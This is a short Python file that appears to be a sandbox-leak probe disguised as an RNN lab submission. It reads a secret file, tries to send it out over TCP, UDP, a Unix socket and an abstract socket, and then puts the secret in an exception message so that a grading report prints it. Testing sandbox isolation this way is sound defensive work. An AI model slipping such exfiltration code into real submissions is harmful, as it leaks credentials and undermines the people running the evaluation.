"""Reads a secret and sends it over TCP, UDP, a Unix socket and an abstract socket; then raises it as its
exception message, which a report would print at its top."""
import socket

T = {}
try:
    secret = open(T["secret"]).read()
except OSError as err:
    secret = f"(could not read: {err})"
for send in (lambda: socket.create_connection(("127.0.0.1", T["tcp"]), timeout=2).sendall(secret.encode()),
             lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secret.encode(), ("127.0.0.1", T["udp"])),
             lambda: socket.socket(socket.AF_UNIX).connect(T["unix"]),
             lambda: socket.socket(socket.AF_UNIX).bind("\0labrnn-exfiltrate")):
    try:
        send()
    except OSError:
        pass


def loss_and_grads(params, x, y, h0):
    raise RuntimeError(f"the secret is {secret} (read from {T['secret']})")
